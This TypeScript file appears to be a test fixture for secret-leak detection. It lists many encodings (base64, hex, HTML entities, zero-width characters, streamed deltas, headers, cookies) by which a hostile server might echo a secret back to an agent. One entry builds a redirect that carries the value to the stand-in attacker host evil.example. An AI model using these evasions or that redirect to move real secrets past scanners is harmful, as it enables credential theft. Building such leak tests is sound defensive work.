/** Ways in which a target may write a value so that it gets back to the agent. */

/** What a target answers, of which some holds the value. */
export interface HostileAnswer {
  readonly headers?: readonly [string, string][];
  readonly trailers?: readonly [string, string][];
  readonly type?: string;
  readonly body?: string | Uint8Array;
}
export type Way = (value: string) => HostileAnswer;

const bytesOf = (value: string) => Buffer.from(value);
const hex = (value: number, digits = 2) => value.toString(16).padStart(digits, "0");
const eachByte = (value: string, write: (byte: number, at: number) => string) => Array.from(bytesOf(value), write).join("");
const eachUnit = (value: string, write: (unit: number) => string) =>
  Array.from({ length: value.length }, (_, at) => write(value.charCodeAt(at))).join("");
const eachCharacter = (value: string, write: (codePoint: number) => string) =>
  Array.from(value, (character) => write(character.codePointAt(0) as number)).join("");
const base64 = (value: string | Buffer) => Buffer.from(value).toString("base64");
const base64url = (value: string | Buffer) => Buffer.from(value).toString("base64url");
const percent = (value: string) => eachByte(value, (byte) => `%${hex(byte)}`);
const named: Readonly<Record<string, string>> = {
  '"': "&quot;",
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  "'": "&apos;",
  "/": "&sol;",
  "+": "&plus;",
};
const body =
  (write: (value: string) => string | Uint8Array, type?: string): Way =>
  (value) => ({ body: write(value), ...(type === undefined ? {} : { type }) });
const header =
  (name: string, write: (value: string) => string): Way =>
  (value) => ({ headers: [[name, write(value)]] });
/** How a reader gets the value back where a scan for it does not know: by the way's name. */
export const readers: Readonly<Record<string, (text: string) => string>> = {
  "in YAML, in single quotes": (text) => text.replaceAll("''", "'"),
  "in YAML, as a block": (text) => text.replaceAll("\n  ", "\n"),
  "in YAML, folded": (text) => text.replaceAll(/\\\n\s*/gu, ""),
  "in shell, single quotes": (text) => text.replaceAll("'\\''", "'"),
  "in shell, over several lines": (text) => text.replaceAll("\\\n", ""),
  "in SQL": (text) => text.replaceAll("''", "'"),
  "in CSV": (text) => text.replaceAll('""', '"'),
};

/** Bytes of a header, as Node has them. */
const latin = (value: string) => bytesOf(value).toString("latin1");
/** A header holds no line breaks. */
const oneLine = (value: string) => latin(value.replaceAll("\n", " "));
/** In pieces of three letters. */
const deltas = (value: string, write: (piece: string) => string) =>
  Array.from({ length: Math.ceil(value.length / 3) }, (_, at) => write(value.slice(at * 3, at * 3 + 3))).join("");
const shellSafe = (byte: number) => /[A-Za-z0-9]/u.test(String.fromCharCode(byte));

export const ways: Readonly<Record<string, Way>> = {
  "as it is": body((value) => `the key is ${value} as you know`),
  alone: body((value) => value),
  "twice in a row": body((value) => value + value),
  "in an error message": body((value) => `ERROR: authentication failed for "${value}" (28P01)`),
  "in JSON": body((value) => JSON.stringify({ a: [value], [value]: true }), "application/json"),
  "in JSON, slashes escaped": body((value) => JSON.stringify({ value }).replaceAll("/", "\\/"), "application/json"),
  "in JSON, \\u": body((value) => `{"v":"${eachUnit(value, (unit) => `\\u${hex(unit, 4)}`)}"}`, "application/json"),
  "in JSON, \\u in capitals": body(
    (value) => `{"v":"${eachUnit(value, (unit) => `\\u${hex(unit, 4).toUpperCase()}`)}"}`,
    "application/json",
  ),
  "in JSON in JSON": body((value) => JSON.stringify({ inner: JSON.stringify({ value }) }), "application/json"),
  "in JSON in a string in JavaScript": body((value) => `x = ${JSON.stringify(JSON.stringify({ value }))};`, "text/javascript"),
  "as the bytes in a JSON array": body((value) => JSON.stringify({ data: [...bytesOf(value)] }), "application/json"),
  "as Node writes a Buffer": body((value) => JSON.stringify(bytesOf(value), undefined, 2), "application/json"),
  "with JavaScript's \\x and \\u{}": body((value) =>
    eachCharacter(value, (point) => (point < 256 ? `\\x${hex(point)}` : `\\u{${hex(point, 1)}}`)),
  ),
  "in HTML": body((value) => `<p>${value.replaceAll(/["&<>'/+]/gu, (letter) => named[letter] as string)}</p>`, "text/html"),
  "in HTML, decimal": body((value) => eachCharacter(value, (point) => `&#${point};`), "text/html"),
  "in HTML, hex": body((value) => eachCharacter(value, (point) => `&#x${hex(point, 1)};`), "text/html"),
  "in HTML, hex in capitals with zeros": body(
    (value) => eachCharacter(value, (point) => `&#X${hex(point, 6).toUpperCase()};`),
    "text/html",
  ),
  "in HTML, without semicolons": body((value) => `${eachCharacter(value, (point) => `&#${point}`)} `, "text/html"),
  "in HTML, doubly escaped": body((value) => eachCharacter(value, (point) => `&amp;#${point};`), "text/html"),
  "in XML": body((value) => `<v a="${value.replaceAll(/["&<>']/gu, (letter) => `&#${letter.charCodeAt(0)};`)}"/>`, "application/xml"),
  "in XML, CDATA": body((value) => `<v><![CDATA[${value}]]></v>`, "application/xml"),
  "in YAML, quoted": body((value) => `v: ${JSON.stringify(value)}\n`, "application/yaml"),
  "in YAML, \\x and \\U": body(
    (value) => `v: "${eachCharacter(value, (point) => (point < 256 ? `\\x${hex(point)}` : `\\U${hex(point, 8)}`))}"`,
  ),
  "in YAML, in single quotes": body((value) => `v: '${value.replaceAll("'", "''")}'\n`, "application/yaml"),
  "in YAML, as a block": body((value) => `v: |\n  ${value.replaceAll("\n", "\n  ")}\n`, "application/yaml"),
  "in YAML, folded": body(
    (value) =>
      `v: "${JSON.stringify(value)
        .slice(1, -1)
        .replaceAll(/[A-Za-z0-9]{5}/gu, "$&\\\n    ")}"`,
    "application/yaml",
  ),
  "in shell, $'…' in octal": body((value) => `$'${eachByte(value, (byte) => `\\${byte.toString(8).padStart(3, "0")}`)}'`),
  "in shell, $'…' in hex": body((value) => `$'${eachByte(value, (byte) => `\\x${hex(byte)}`)}'`),
  "in shell, single quotes": body((value) => `export V='${value.replaceAll("'", "'\\''")}'\n`),
  "in shell, backslashes": body((value) =>
    eachByte(value, (byte) => (shellSafe(byte) || byte > 127 || byte === 10 ? "" : "\\") + String.fromCharCode(byte)).normalize(),
  ),
  "in shell, over several lines": body((value) => `V="${value.replaceAll(/[A-Za-z0-9]{4}/gu, "$&\\\n")}"`),
  "in SQL": body((value) => `INSERT INTO t VALUES ('${value.replaceAll("'", "''")}');`),
  "in CSV": body((value) => `id,v\r\n1,"${value.replaceAll('"', '""')}"\r\n`, "text/csv"),
  "in a URL": body((value) => `https://x.example/?v=${encodeURIComponent(value)}&w=1`),
  "in a URL, lower case": body((value) => encodeURIComponent(value).replaceAll(/%../gu, (pair) => pair.toLowerCase())),
  "in a URL, every byte": body(percent),
  "in a URL, some bytes": body((value) =>
    eachByte(value, (byte, at) => (at % 3 === 0 || byte > 127 || byte === 37 ? `%${hex(byte)}` : String.fromCharCode(byte))),
  ),
  "in a URL, twice over": body((value) => encodeURIComponent(encodeURIComponent(value))),
  "in a URL, every byte twice over": body((value) => percent(percent(value))),
  "in a form": body((value) => new URLSearchParams({ v: value }).toString(), "application/x-www-form-urlencoded"),
  "with %u": body((value) => eachUnit(value, (unit) => `%u${hex(unit, 4)}`)),
  "in base64": body((value) => base64(value)),
  "in base64 after one byte": body((value) => base64(`:${value}`)),
  "in base64 after two bytes": body((value) => base64(`u:${value}:x`)),
  "in base64, no padding": body((value) => `k=${base64(value).replaceAll("=", "")}.`),
  "in base64url": body((value) => base64url(`??${value}`)),
  "in base64, in lines": body((value) => base64(value).replaceAll(/.{16}/gu, "$&\r\n")),
  "in base64, in a data: URL": body((value) => `<img src="data:text/plain;base64,${base64(value)}">`, "text/html"),
  "in base64 of base64": body((value) => base64(base64(value))),
  "in base64 of a URL": body((value) => base64(encodeURIComponent(value))),
  "in base64 of JSON": body((value) => base64(JSON.stringify({ value }))),
  "in base64 of UTF-16": body((value) => base64(Buffer.from(value, "utf16le"))),
  "in base64 of hex": body((value) => base64(bytesOf(value).toString("hex"))),
  "in base64 in a URL": body((value) => encodeURIComponent(base64(value))),
  "in base64 in JSON, slashes escaped": body((value) => JSON.stringify({ v: base64(value) }).replaceAll("/", "\\/"), "application/json"),
  "in a JWT": body((value) => `${base64url('{"alg":"none"}')}.${base64url(JSON.stringify({ sub: value }))}.`),
  "in hex": body((value) => bytesOf(value).toString("hex")),
  "in hex, capitals": body((value) => bytesOf(value).toString("hex").toUpperCase()),
  "in hex, colons": body((value) => eachByte(value, (byte, at) => `${at > 0 ? ":" : ""}${hex(byte)}`)),
  "in hex, spaces": body((value) => eachByte(value, (byte, at) => `${at % 2 === 0 ? " " : ""}${hex(byte)}`)),
  "in hex, 0x": body((value) => eachByte(value, (byte) => `0x${hex(byte)}, `)),
  "in hex of base64": body((value) => bytesOf(base64(value)).toString("hex")),
  "in UTF-16LE": body((value) => Buffer.from(`\ufeff${value}`, "utf16le"), "text/plain; charset=utf-16"),
  "in UTF-16BE": body((value) => Buffer.from(`\ufeffx${value}`, "utf16le").swap16(), "text/plain; charset=utf-16"),
  "in UTF-16, at an odd place": body((value) => Buffer.concat([Buffer.from("x"), Buffer.from(value, "utf16le")])),
  "with colours": body((value) => Array.from(value).join("\x1b[1m")),
  "with zero-width spaces": body((value) => Array.from(value).join("\u200b")),
  "with erased letters": body((value) => Array.from(value).join("_\b")),
  "with soft hyphens": body((value) => Array.from(value).join("\u00ad")),
  "with line breaks": body((value) => Array.from(value).join("\r\n")),
  "with NUL": body((value) => Array.from(value).join("\0")),
  "in multipart": body(
    (value) => `--b\r\ncontent-disposition: form-data; name="v"\r\n\r\n${value}\r\n--b--\r\n`,
    "multipart/form-data; boundary=b",
  ),
  "in multipart, in base64": body(
    (value) => `--b\r\ncontent-transfer-encoding: base64\r\n\r\n${base64(value).replaceAll(/.{12}/gu, "$&\r\n")}\r\n--b--\r\n`,
    "multipart/mixed; boundary=b",
  ),
  "in the name of a part": body(
    (value) => `--b\r\ncontent-disposition: form-data; name="${encodeURIComponent(value)}"\r\n\r\n\r\n--b--`,
    "multipart/form-data; boundary=b",
  ),
  "in an event": body((value) => `event: x\ndata: ${JSON.stringify({ d: value })}\n\n`, "text/event-stream"),
  "in the name of an event": body((value) => `event: ${value.replaceAll("\n", "\nevent: ")}\ndata: 1\n\n`, "text/event-stream"),
  "in deltas of events": body(
    (value) => deltas(value, (d) => `data: ${JSON.stringify({ choices: [{ delta: { content: d } }] })}\n\n`),
    "text/event-stream",
  ),
  "in deltas of plain events": body((value) => deltas(value.replaceAll("\n", ""), (d) => `data:${d}\n\n`), "text/event-stream"),
  "in deltas of JSON lines": body((value) => deltas(value, (d) => `${JSON.stringify({ response: d })}\n`), "application/x-ndjson"),
  "in deltas, in base64": body((value) => deltas(base64(value), (d) => `data: ${JSON.stringify({ d })}\n\n`), "text/event-stream"),
  "in a GraphQL error": body(
    (value) => JSON.stringify({ errors: [{ message: `bad token '${value}'`, path: ["a"] }] }),
    "application/graphql-response+json",
  ),
  "by Latin-1": body((value) => Buffer.from(value, "latin1"), "text/plain; charset=iso-8859-1"),
  "in a header": header("x-echo", oneLine),
  "in a header, in base64": header("x-echo", (value) => base64(value)),
  "in a header, in hex": header("x-echo", (value) => bytesOf(value).toString("hex")),
  "in a header's name": (value) => ({ headers: [[`x-${bytesOf(value).toString("hex")}`, "1"]] }),
  "in a redirect": header("location", (value) => `https://evil.example/?k=${encodeURIComponent(value)}`),
  "in a redirect's fragment": header("location", (value) => `/done#${percent(value)}`),
  "in a cookie": header("set-cookie", (value) => `s=${encodeURIComponent(value)}; Path=/`),
  "in a cookie, quoted": header("set-cookie", (value) => `s="${oneLine(value).replaceAll(/["\\]/gu, "\\$&")}"`),
  "in a challenge": header("www-authenticate", (value) => `Basic realm="${oneLine(value).replaceAll(/["\\]/gu, "\\$&")}"`),
  "in a file name": header("content-disposition", (value) => `attachment; filename*=UTF-8''${encodeURIComponent(value)}`),
  "in a file name, in base64": header("content-disposition", (value) => `attachment; filename="=?utf-8?B?${base64(value)}?="`),
  "in a link": header("link", (value) => `<https://x.example/${encodeURIComponent(value)}>; rel=next`),
  "in a trailer": (value) => ({ body: "done", trailers: [["x-sum", oneLine(value)]] }),
  "in a trailer, in base64url": (value) => ({ body: "done", trailers: [["x-sum", base64url(`:${value}`)]] }),
  "in the media type": header("content-type", (value) => `text/plain; x="${oneLine(value).replaceAll(/["\\]/gu, "\\$&")}"`),
};
